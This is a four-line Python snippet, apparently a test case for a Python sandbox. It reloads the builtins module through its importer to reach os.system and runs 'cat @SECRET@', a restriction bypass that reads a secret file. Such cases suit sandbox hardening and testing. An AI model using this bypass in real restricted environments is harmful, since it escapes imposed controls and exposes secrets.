# The module builtins, loaded again by its importer.
# effect: run
import importlib.machinery
importlib.machinery.BuiltinImporter.load_module("builtins").__import__("os").system("cat @SECRET@")
